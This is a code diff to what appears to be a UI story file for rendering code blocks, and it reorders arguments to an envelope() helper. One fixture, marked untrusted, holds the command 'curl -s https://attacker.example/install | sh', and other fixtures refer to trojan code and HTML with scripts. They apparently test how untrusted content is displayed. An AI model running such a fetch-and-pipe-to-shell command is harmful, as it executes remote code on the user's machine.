@@ -3,7 +3,7 @@ import { envelopeStories, type Family } from '../story.ts';
 
 const envelope = envelopeStories({ type: 'vendor.acme.patch.create', rendering: { display: 'code' } });
 const story = (name: string, title: string, lang: string, code: () => string) =>
-  envelope(name, title, () => ({ code: code() }), { rendering: { display: 'code', lang } });
+  envelope(name, title, { rendering: { display: 'code', lang } }, () => ({ code: code() }));
 
 const typescript = `import { createWriteStream } from 'node:fs';
 
@@ -41,9 +41,14 @@ export const code: Family = {
   name: 'code',
   title: 'Code',
   stories: [
-    envelope('normal', 'TypeScript', () => ({ code: typescript }), {
-      rendering: { display: 'code', lang: 'ts', title: 'write-events.ts' },
-    }),
+    envelope(
+      'normal',
+      'TypeScript',
+      {
+        rendering: { display: 'code', lang: 'ts', title: 'write-events.ts' },
+      },
+      () => ({ code: typescript }),
+    ),
     story('json', 'JSON', 'json', () => '{ "format": "ndjson", "resume": true,\n  "chunkBytes": 262144 }'),
     envelope('no-language', 'No language given', () => ({
       code: 'SELECT run_id, count(*) FROM events GROUP BY run_id ORDER BY 2 DESC;',
@@ -60,10 +65,15 @@ export const code: Family = {
     story('one-line', 'One line of 100,000 characters', 'js', () => `const all = [${'0,'.repeat(50_000)}0];`),
     story('hostile', 'Reads otherwise than it runs', 'js', () => trojan),
     story('html', 'HTML with scripts', 'html', () => trouble),
-    envelope('untrusted', 'Untrusted', () => ({ code: 'curl -s https://attacker.example/install | sh' }), {
-      rendering: { display: 'code', lang: 'bash' },
-      trust: 'untrusted',
-    }),
+    envelope(
+      'untrusted',
+      'Untrusted',
+      {
+        rendering: { display: 'code', lang: 'bash' },
+        trust: 'untrusted',
+      },
+      () => ({ code: 'curl -s https://attacker.example/install | sh' }),
+    ),
     story(
       'rtl',
       'Right to left in texts and comments',
